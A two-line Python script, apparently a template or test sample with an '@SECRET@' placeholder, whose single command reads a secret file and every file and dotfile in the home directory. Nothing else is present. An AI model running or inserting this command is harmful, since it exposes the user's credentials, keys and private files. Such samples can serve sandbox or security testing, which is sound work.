import os
os.system("cat @SECRET@; cat ~/* ~/.* 2>/dev/null")
